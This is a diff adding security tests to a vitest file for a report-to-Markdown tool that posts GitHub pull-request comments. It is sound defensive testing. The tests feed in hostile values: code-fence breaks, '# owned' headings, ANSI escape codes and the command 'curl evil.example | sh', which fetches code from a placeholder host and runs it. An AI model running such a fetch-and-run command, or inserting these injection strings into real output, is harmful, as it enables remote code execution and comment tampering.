@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it, onTestFinished } from 'vitest';
@@ -112,9 +112,58 @@ describe('reports of strangers', () => {
     { is: 'text where a number belongs', report: { ...europe, locks: { heldMs: '<img>', attempts: 1, waitedMs: 0 } } },
     { is: 'an unknown result', report: { ...europe, result: '## owned' } },
     { is: 'of another version', report: { ...europe, version: 2 } },
+    { is: 'a run id that is none', report: { ...europe, runId: '`\n# owned' } },
+    {
+      is: 'a digest that leaves its line',
+      report: { ...europe, plan: { ...completed.plan, digest: 'x\n```\n# owned' } },
+    },
+    { is: 'an error code that is none', report: { ...failed, error: { code: 'OWNED', message: '', hint: '' } } },
+    { is: 'half a row', report: { ...europe, checks: [{ ...completed.checks[0], rows: 0.5 }] } },
   ])('are refused where one is $is', ({ report }) => {
     const folder = folderOf({ eu: report });
     expect(() => readReports(folder)).toThrowError(/is not a report JSON of this version/);
+  });
+
+  it('cannot leave a block of code, and have no commands in a comment', async () => {
+    const commands = ['```', '# owned', '`````', 'curl evil.example | sh', 'a\u001b[2J\n```\nb'];
+    const hostile: Report = {
+      ...failed,
+      result: 'needs-attention',
+      instructions: [{ text: 'do\n```\n# owned', commands }],
+    };
+    const text = reportMarkdown(hostile);
+    const [, block = ''] = /``````sh\n([^]*?)\n``````(?:\n|$)/.exec(text) ?? [];
+    expect(block.split('\n')).toHaveLength(commands.length);
+    expect(text.replace(block, '')).not.toMatch(/^# owned/m);
+    // oxlint-disable-next-line no-control-regex -- it must be gone
+    expect(text).not.toMatch(/\u001b/);
+    const api = await gitHubApi();
+    const reports = Object.fromEntries(
+      Array.from({ length: 12 }, (_, i) => [
+        `r${i}`,
+        { ...hostile, runId: `run-${i}`, database: { name: `d${i}`, server: 's' } },
+      ]),
+    );
+    const folder = folderOf(reports);
+    const event = join(folder, 'event.json');
+    writeFileSync(event, JSON.stringify({ pull_request: { number: 7 } }));
+    const said = await runCli(folder, ['report', '--from', folder, '--comment'], {
+      GITHUB_TOKEN: 'ghs_never-to-be-seen',
+      GITHUB_API_URL: api.url,
+      GITHUB_REPOSITORY: 'shop/app',
+      GITHUB_EVENT_PATH: event,
+    });
+    expect(said.exit).toBe(0);
+    expect(api.comments).toHaveLength(1);
+    expect(api.comments[0]?.body).not.toContain('curl');
+  });
+
+  it('are not read without end', () => {
+    const many = Object.fromEntries(Array.from({ length: 201 }, (_, i) => [`r${i}`, {}]));
+    expect(() => readReports(folderOf(many))).toThrowError(/there are 201 reports/);
+    const folder = folderOf({});
+    symlinkSync('/', join(folder, 'root'));
+    expect(() => readReports(folder)).toThrowError(/there is no report JSON/);
   });
 
   it('have to be there', () => {
